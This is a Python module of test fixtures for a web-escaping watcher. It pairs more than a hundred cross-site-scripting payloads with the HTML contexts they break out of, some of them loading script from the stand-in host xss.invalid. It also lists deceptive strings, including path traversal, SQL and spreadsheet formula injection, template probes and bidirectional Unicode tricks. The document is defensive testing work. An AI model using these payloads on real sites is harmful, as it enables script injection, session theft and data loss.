r"""Strings that do harm, or deceive, where they are shown as anything but text.

A payload that runs has a host: the piece of a careless page in which it does, with ``{}`` where it stands.
`test_watch.py` proves for each that it runs there, and that the watch notices.
"""

from __future__ import annotations

from dataclasses import dataclass

ELSEWHERE = "http://xss.invalid"
"""No such host exists; a request to it is noticed all the same."""

NUMBER = "@@"
"""Stands for the payload's number in what it does."""

TEXT = "<div>{}</div>"
DOUBLE = '<p title="{}">x</p>'
SINGLE = "<p title='{}'>x</p>"
BARE = "<p title={}>x</p>"
LINK = '<a href="{}">x</a>'
SCRIPT_DOUBLE = '<script>var name = "{}";</script>'
SCRIPT_SINGLE = "<script>var name = '{}';</script>"
SCRIPT_TEMPLATE = "<script>var name = `{}`;</script>"
SCRIPT_LINE = "<script>// {}</script>"
SCRIPT_COMMENT = "<script>/* {} */</script>"
JSON = '<script type="application/json">{"name": "{}"}</script>'
STYLE = "<style>p { color: red } /* {} */</style><p>x</p>"
STYLE_ATTRIBUTE = '<p style="color: {}">x</p>'
TITLE = "<title>{}</title>"
TEXTAREA = "<textarea>{}</textarea>"
NOSCRIPT = "<noscript>{}</noscript>"
COMMENT = "<!-- {} -->"
SRCDOC = '<iframe srcdoc="{}"></iframe>'
SRCDOC_TWICE = "<iframe srcdoc='<iframe srcdoc=\"{}\"></iframe>'></iframe>"
HANDLER = "<p id=target onmouseover=\"String('{}')\">x</p>"
DECODED = '<p id=decoded data-name="{}"></p><script>decoded.innerHTML = decoded.dataset.name</script>'
EVALUATED = "<script>eval('(' + decodeURIComponent('%7B') + '\"name\": \"{}\"})')</script>"


@dataclass(frozen=True)
class Payload:
    """A hostile string.

    Attributes
    ----------
    number
        What it reports when it runs.
    text
        The string.
    host
        Where it runs: a piece of HTML with ``{}`` in the place of the string. Empty if it only deceives.
    """

    number: int
    text: str
    host: str = ""

    @property
    def page(self) -> str:
        """A page on which it runs."""
        return f"<!doctype html><meta charset=utf-8>{self.host.replace('{}', self.text)}"


RUNNING: tuple[tuple[str, str], ...] = (
    # Elements.
    (TEXT, "<script>alert(@@)</script>"),
    (TEXT, "<ScRiPt>__ran=@@</sCrIpT>"),
    (TEXT, "<script\x20type=text/javascript>console.log('xss-ran @@')</script>"),
    (TEXT, "<script src=http://xss.invalid/@@></script>"),
    (TEXT, "<script src=data:text/javascript,alert(@@)></script>"),
    (TEXT, "<script/x>document.title='xss @@'</script>"),
    (TEXT, "<script type=module>alert(@@)</script>"),
    (TEXT, "<img src=x onerror=alert(@@)>"),
    (TEXT, "<img src=x onerror=\"document.title='xss @@'\">"),
    (TEXT, "<IMG/SRC/ONERROR=__ran=@@>"),
    (TEXT, "<img src=http://xss.invalid/@@>"),
    (TEXT, "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(@@)>"),
    (TEXT, "<img src=x onerror=\\u0061lert(@@)>"),
    (TEXT, "<img src=\"x\"onerror=alert(@@)>"),
    (TEXT, "<img\x0csrc=x\x0conerror=alert(@@)>"),
    (TEXT, "<img\nsrc=x\tonerror\r=\nalert(@@)>"),
    (TEXT, "<image src=x onerror=alert(@@)>"),
    (TEXT, "<svg onload=alert(@@)>"),
    (TEXT, "<svg/onload=__ran=@@>"),
    (TEXT, "<svg><script>alert(@@)</script></svg>"),
    (TEXT, "<svg><animate onbegin=alert(@@) attributeName=x dur=1s>"),
    (TEXT, "<svg><style><img src=x onerror=alert(@@)>"),
    (TEXT, "<svg><foreignObject><body onload=1><img src=x onerror=alert(@@)></foreignObject></svg>"),
    (TEXT, "<svg><a href=javascript:alert(@@)><text y=20>x</text></a></svg>"),
    (TEXT, "<svg><image href=http://xss.invalid/@@></svg>"),
    (TEXT, "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=1&gt;'></table>"
        "<img src=x onerror=alert(@@)>"),
    (TEXT, "<math href=javascript:alert(@@)>x</math><a href=javascript:alert(@@)>x</a>"),
    (TEXT, "<iframe src=javascript:parent.alert(@@)></iframe>"),
    (TEXT, "<iframe srcdoc='<img src=x onerror=alert(@@)>'></iframe>"),
    (TEXT, "<iframe srcdoc='&lt;script&gt;alert(@@)&lt;/script&gt;'></iframe>"),
    (TEXT, "<iframe src=http://xss.invalid/@@></iframe>"),
    (TEXT, "<iframe src='data:text/html,<script>alert(@@)</script>'></iframe>"),
    (TEXT, "<iframe onload=alert(@@)></iframe>"),
    (TEXT, "<object data='data:text/html,<script>alert(@@)</script>'></object>"),
    (TEXT, "<embed src='data:text/html,<script>alert(@@)</script>'>"),
    (TEXT, "<video><source onerror=alert(@@)></video>"),
    (TEXT, "<audio src=x onerror=alert(@@)>"),
    (TEXT, "<details open ontoggle=alert(@@)>x</details>"),
    (TEXT, "<input autofocus onfocus=alert(@@)>"),
    (TEXT, "<body onpageshow=alert(@@)>"),
    (TEXT, "<b style='animation:x 1s' onanimationstart=alert(@@)>x</b><style>@keyframes x{}</style>"),
    (TEXT, "<p onmouseover=alert(@@)>x</p>"),
    (TEXT, "<link rel=stylesheet href=http://xss.invalid/@@>"),
    (TEXT, "<style>@import 'http://xss.invalid/@@';</style>"),
    (TEXT, "<style>*{background:url(http://xss.invalid/@@)}</style>x"),
    (TEXT, "<meta http-equiv=refresh content='0;url=http://xss.invalid/@@'>"),
    (TEXT, "<base href=http://xss.invalid/@@/><img src=x>"),
    (TEXT, "<form action=http://xss.invalid/@@><button>x</button></form>"),
    (TEXT, "<form><button formaction=javascript:alert(@@)>x</button></form>"),
    (TEXT, "<a href='javascript:alert(@@)'>x</a>"),
    (TEXT, "<a href=' java&#10;script&colon;alert(@@)'>x</a>"),
    (TEXT, "<template shadowrootmode=open><img src=x onerror=alert(@@)></template>"),
    (TEXT, "<<script>alert(@@)//<</script>"),
    (TEXT, "<x/onmouseover=alert(@@)>x"),
    (TEXT, "[x](y)<img src=x onerror=alert(@@)>`code`"),
    (TEXT, "{{ 7 * 7 }}{% raw %}<img src=x onerror=alert(@@)>{% endraw %}"),
    # Out of attributes, and in them.
    (DOUBLE, "\"><script>alert(@@)</script>"),
    (DOUBLE, "\" onmouseover=\"alert(@@)"),
    (DOUBLE, "\"><img src=x onerror=__ran=@@><\""),
    (SINGLE, "'><svg onload=alert(@@)>"),
    (SINGLE, "' autofocus tabindex=1 onfocus='alert(@@)"),
    (BARE, "x onmouseover=alert(@@)"),
    (BARE, "`><img src=x onerror=alert(@@)>"),
    (LINK, "javascript:alert(@@)"),
    (LINK, "JaVaScRiPt:alert(@@)"),
    (LINK, "\x01 java\tscript:alert(@@)"),
    (LINK, "javascript:/*--></title></style></textarea></script><svg onload=alert(@@)>*/alert(@@)//"),
    (STYLE_ATTRIBUTE, "red;background:url(http://xss.invalid/@@)"),
    (HANDLER, "');alert(@@);//"),
    (HANDLER, "&#39;);alert(@@);//"),
    # Out of scripts, JSON, styles and comments.
    (SCRIPT_DOUBLE, "\";alert(@@);//"),
    (SCRIPT_DOUBLE, "</script><script>alert(@@)</script>"),
    (SCRIPT_LINE, "\u2028alert(@@)"),
    (SCRIPT_SINGLE, "';alert(@@);'"),
    (SCRIPT_SINGLE, "'-alert(@@)-'"),
    (SCRIPT_TEMPLATE, "${alert(@@)}"),
    (SCRIPT_TEMPLATE, "`;alert(@@);`"),
    (SCRIPT_COMMENT, "*/alert(@@)/*"),
    (SCRIPT_COMMENT, "*/</script><!--><img src=x onerror=alert(@@)>-->"),
    (JSON, "</script><img src=x onerror=alert(@@)>"),
    (JSON, "<!--<script></script --></script><img src=x onerror=alert(@@)>"),
    (JSON, "\"}</SCRIPT ><svg onload=alert(@@)>"),
    (EVALUATED, "\", \"x\": alert(@@), \"y\": \""),
    (STYLE, "*/</style><img src=x onerror=alert(@@)>"),
    (STYLE, "*/ p { background: url(http://xss.invalid/@@) } /*"),
    (TITLE, "</title><script>alert(@@)</script>"),
    (TEXTAREA, "</textarea><img src=x onerror=alert(@@)>"),
    (NOSCRIPT, "</noscript><img src=x onerror=alert(@@)>"),
    (COMMENT, "--><img src=x onerror=alert(@@)><!--"),
    (COMMENT, "--!><svg onload=alert(@@)>"),
    (COMMENT, "-->\n<script>alert(@@)</script>"),
    # Escaped once less than it is read.
    (SRCDOC, "&lt;img src=x onerror=alert(@@)&gt;"),
    (SRCDOC, "&#x3c;script&#x3e;alert(@@)&#x3c;/script&#x3e;"),
    (SRCDOC, "&LT;svg onload&equals;alert&lpar;@@&rpar;&GT;"),
    (SRCDOC, "\" onload=\"alert(@@)"),
    (SRCDOC, "&quot;>&lt;img src=x onerror=alert(@@)>"),
    (SRCDOC_TWICE, "&amp;lt;img src=x onerror=alert(@@)&amp;gt;"),
    (DECODED, "&lt;img src=x onerror=alert(@@)&gt;&amp;quot;"),
)  # fmt: skip

DECEIVING: tuple[str, ...] = (
    # Objects of JavaScript and Python.
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "__class__",
    "__proto__.polluted",
    # Templates.
    "{0}",
    "{policy}",
    "{title!r}",
    "{static.__class__.__mro__}",
    "%s%n%d",
    "%(name)s",
    "${name}",
    "{% include '/etc/passwd' %}",
    "$& $1 $` $' $$",
    # Seen differently from what they are.
    "weight\x00.null",
    "weight\x08\x08\x08bias",
    "line\nbreak\rreturn\ttab",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]8;;http://xss.invalid/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred",
    "layer\u202egnp.thgiew\u202c",
    "\u202eoverride",
    "\u2066isolate\u2069 \u2067flip",
    "\u200fright\u200eleft",
    "wei\u200bght",
    "wei\u200dght",
    "wei\u00adght",
    "\ufeffweight",
    "weight\u2028separator\u2029",
    "weight\u3164",
    "\u115f\u1160",
    "weight\ufe0f",
    "weight\U000e0041\U000e0042",
    "wei\u2062ght\u2060",
    "\u00a0weight\u2003",
    "lone\ud800surrogate",
    "\udcff.undecodable",
    "z" + "\u0301\u0330" * 40 + "algo",
    "\ufffe\uffffnoncharacters\ufdd0",
    "ﬃ ﷺ 𒐫",
    "ع\u0631\u0628\u064a weight",
    "w" * 20_000,
    "<" * 500 + "img" + ">" * 500,
    "deep." * 300 + "weight",
    " ",
    "",
    ".",
    "..",
    "../../../etc/passwd",
    "C:\\Windows\\system32",
    "&nbsp;&lt;&amp;&quot;&#39;",
    "[link](javascript:alert(1)) ![x](http://xss.invalid/md) **bold** $\\href{javascript:alert(1)}{x}$",
    "name › head 0",
    "weight[0]?kind:* -std>0 \"",
    "'; DROP TABLE weights; --",
    "=cmd|'/c calc'!A1",
    "__metadata__",
    "index",
)  # fmt: skip


PAYLOADS: tuple[Payload, ...] = (
    *(
        Payload(number, text.replace(NUMBER, str(number)), host)
        for number, (host, text) in enumerate(RUNNING, start=101)
    ),
    *(Payload(number, text) for number, text in enumerate(DECEIVING, start=501)),
)

TEXTS: tuple[str, ...] = tuple(payload.text for payload in PAYLOADS)
